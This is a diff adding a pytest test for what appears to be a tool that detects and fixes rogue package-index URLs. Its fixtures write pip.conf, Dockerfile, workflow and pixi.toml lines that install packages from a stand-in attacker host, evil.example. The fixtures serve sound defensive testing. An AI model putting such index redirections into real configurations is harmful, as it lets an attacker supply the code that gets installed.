@@ -93,6 +93,24 @@ def test_mechanical_fixes_are_shown_written_and_checked(project: Path) -> None:
     assert "evil.example" not in done.stdout
 
 
+def test_after_the_fixes_a_second_run_is_clean(project: Path) -> None:
+    evil = "https://evil.example/simple/"
+    shapes = {
+        "pip.conf": f"[global]\nindex-url = {MIRROR}\nextra-index-url =\n  {MIRROR}\n  {evil}\n",
+        "Dockerfile": f"FROM x\nARG IDX={evil}\n# {evil}\nRUN pip install -i $IDX x\n",
+        ".github/workflows/x.yml": f"env: {{PIP_INDEX_URL: '{evil}'}}\nrun: pip install -f {evil} x\n",
+        "pixi.toml": f'[pypi-options]\nindex-url = "{evil}"\n',
+    }
+    for name, text in shapes.items():
+        (project / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / name).write_text(text)
+    first, second = (check(project, "--offline", "--fix") for _ in range(2))
+    assert (first.returncode, second.returncode) == (0, 0), first.stdout
+    assert first.stderr.count("\n+++ ") + first.stderr.startswith("+++ ") == len(shapes)
+    assert second.stderr == ""
+    assert f"# {evil}" in (project / "Dockerfile").read_text()
+
+
 def test_nothing_is_written_where_nothing_can_be_mended(project: Path) -> None:
     before = sorted(project.iterdir())
     assert check(project, "--offline", "--fix").returncode == 0
